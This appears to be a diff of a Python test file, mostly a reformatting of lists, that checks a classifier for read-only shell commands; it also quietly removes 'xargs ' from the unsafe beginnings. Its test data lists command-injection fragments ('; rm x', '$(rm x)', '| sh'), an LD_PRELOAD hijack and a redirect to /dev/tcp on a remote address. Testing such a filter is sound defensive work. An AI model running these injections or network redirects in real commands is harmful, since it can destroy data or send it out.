@@ -32,17 +32,71 @@ SIMPLE = [
 ]
 
 UNSAFE_ENDINGS = [
-    "; rm x", ";rm x", " && rm x", " || rm x", " & rm x", " &", "\nrm x", " | sh", " | tee /tmp/x",
-    " | xargs rm", " > /tmp/x", " >> /tmp/x", " 2> /tmp/x", " &> /tmp/x", " >| /tmp/x", " <> /tmp/x",
-    " > /dev/tcp/203.0.113.9/80", " $(rm x)", " `rm x`", " <(rm x)", ' "$(rm x)"', " ${x}", " $x",
-    " 'x", ' "x', " (", " )", " *", " ~", " {a,b}", " \\", " <<< x", "\r", "\0", " \u202e", " ;; x",
+    "; rm x",
+    ";rm x",
+    " && rm x",
+    " || rm x",
+    " & rm x",
+    " &",
+    "\nrm x",
+    " | sh",
+    " | tee /tmp/x",
+    " | xargs rm",
+    " > /tmp/x",
+    " >> /tmp/x",
+    " 2> /tmp/x",
+    " &> /tmp/x",
+    " >| /tmp/x",
+    " <> /tmp/x",
+    " > /dev/tcp/203.0.113.9/80",
+    " $(rm x)",
+    " `rm x`",
+    " <(rm x)",
+    ' "$(rm x)"',
+    " ${x}",
+    " $x",
+    " 'x",
+    ' "x',
+    " (",
+    " )",
+    " *",
+    " ~",
+    " {a,b}",
+    " \\",
+    " <<< x",
+    "\r",
+    "\0",
+    " \u202e",
+    " ;; x",
     " <<E\n$(rm x)\nE",
-]  # fmt: skip
+]
 UNSAFE_BEGINNINGS = [
-    "rm x; ", "rm x && ", "rm x | ", "sudo ", "env A=b ", "A=b ", "LD_PRELOAD=/tmp/x ", "eval ",
-    "exec ", "builtin ", "nohup ", "strace ", "xargs ", "sh -c ", "busybox ", "ssh host ",
-    "docker exec web ", "if rm x; then ", "coproc ", "trap ", "x() { ", "$(", "`", "/tmp/", "./", "~/",
-]  # fmt: skip
+    "rm x; ",
+    "rm x && ",
+    "rm x | ",
+    "sudo ",
+    "env A=b ",
+    "A=b ",
+    "LD_PRELOAD=/tmp/x ",
+    "eval ",
+    "exec ",
+    "builtin ",
+    "nohup ",
+    "strace ",
+    "sh -c ",
+    "busybox ",
+    "ssh host ",
+    "docker exec web ",
+    "if rm x; then ",
+    "coproc ",
+    "trap ",
+    "x() { ",
+    "$(",
+    "`",
+    "/tmp/",
+    "./",
+    "~/",
+]
 # Options that write or run something, by the program that has them.
 UNSAFE_OPTIONS = {
     "sort": ["-o/tmp/x", "--output=/tmp/x", "--compress-program=sh", "-T/tmp"],
@@ -90,7 +144,9 @@ def spellings(word: str, pick: random.Random) -> str:
 def test_another_spelling_of_the_same_words_means_the_same(command: str, pick: random.Random):
     name, *words = shlex.split(command)
     respelled = " ".join([name, *(spellings(word, pick) for word in words)])
-    blanks = pick.choice(["", " ", "\t", "\n "]) + respelled + pick.choice(["", " ", ";", "\n", " # x"])
+    blanks = (
+        pick.choice(["", " ", "\t", "\n "]) + respelled + pick.choice(["", " ", ";", "\n", " # x"])
+    )
 
     assert meaning(prove(blanks)) == meaning(prove(command))
 
@@ -105,8 +161,11 @@ def test_an_unsafe_beginning_is_never_accepted(command: str, beginning: str):
     assert not prove(beginning + command).is_read
 
 
-@given(st.sampled_from(REFUSED), st.sampled_from(["", " ; ls", " | cat", " && ls", "\nls", " | head -1"]),
-       st.sampled_from(["", "ls; ", "ls && ", "timeout 5 ", "nice ", "! ", "time "]))  # fmt: skip
+@given(
+    st.sampled_from(REFUSED),
+    st.sampled_from(["", " ; ls", " | cat", " && ls", "\nls", " | head -1"]),
+    st.sampled_from(["", "ls; ", "ls && ", "timeout 5 ", "nice ", "! ", "time "]),
+)
 def test_nothing_around_an_unsafe_command_makes_it_a_read(command: str, after: str, before: str):
     assert not prove(before + command + after).is_read
 
@@ -136,9 +195,48 @@ def test_what_is_made_of_the_shell_s_own_characters_has_an_answer(text: str):
 
 def mutate(command: str, pick: random.Random) -> str:
     """One or two small changes anywhere."""
-    pieces = [" ", "\t", "'", '"', "\\", "$", "`", ";", "|", "&", "&&", "||", ">", "2>/dev/null", "2>&1",
-              "<", "(", ")", "{", "}", "[", "]", "#", " #", "*", "?", "~", "!", "\n", "=", "-", "a b",
-              "$x", '"$x"', "''", '""', "'a b'", '"a\\"b"', "> /dev/null", "é"]  # fmt: skip
+    pieces = [
+        " ",
+        "\t",
+        "'",
+        '"',
+        "\\",
+        "$",
+        "`",
+        ";",
+        "|",
+        "&",
+        "&&",
+        "||",
+        ">",
+        "2>/dev/null",
+        "2>&1",
+        "<",
+        "(",
+        ")",
+        "{",
+        "}",
+        "[",
+        "]",
+        "#",
+        " #",
+        "*",
+        "?",
+        "~",
+        "!",
+        "\n",
+        "=",
+        "-",
+        "a b",
+        "$x",
+        '"$x"',
+        "''",
+        '""',
+        "'a b'",
+        '"a\\"b"',
+        "> /dev/null",
+        "é",
+    ]
     for _ in range(pick.randint(1, 2)):
         place = pick.randrange(len(command) + 1)
         match pick.randrange(3):
@@ -163,7 +261,11 @@ def find_shfmt() -> str | None:
 def words_by_shfmt(shfmt: str, text: str) -> list[list[str]]:
     """The words of every command of a script, as the other reader sees them."""
     done = subprocess.run(
-        [shfmt, "--tojson", "-ln=bash"], input=text.encode(), capture_output=True, check=True, timeout=60
+        [shfmt, "--tojson", "-ln=bash"],
+        input=text.encode(),
+        capture_output=True,
+        check=True,
+        timeout=60,
     )
     calls = sorted(_calls(json.loads(done.stdout)), key=lambda call: call[0])
     return [words for _, words in calls]
@@ -215,8 +317,10 @@ def _part(part: dict[str, JSON], *, is_quoted: bool) -> str:
 def _unescape(text: str, escapable: str | None) -> str:
     out, place = "", 0
     while place < len(text):
-        if text[place] == "\\" and place + 1 < len(text) and (
-            escapable is None or text[place + 1] in escapable
+        if (
+            text[place] == "\\"
+            and place + 1 < len(text)
+            and (escapable is None or text[place + 1] in escapable)
         ):
             place += 1
         out += text[place]
@@ -229,7 +333,9 @@ def test_another_reader_of_shell_sees_the_same_words_in_ten_thousand_mutated_com
     if shfmt is None:
         pytest.skip("shfmt is not installed: pip install -r requirements-dev.txt")
     pick = random.Random(20260105)
-    seeds = [command for command in ACCEPTED if "[" not in command.split()[0] and "time" not in command]
+    seeds = [
+        command for command in ACCEPTED if "[" not in command.split()[0] and "time" not in command
+    ]
     texts, expected = [], []
     for _ in range(10_000):
         text = mutate(pick.choice(seeds), pick)
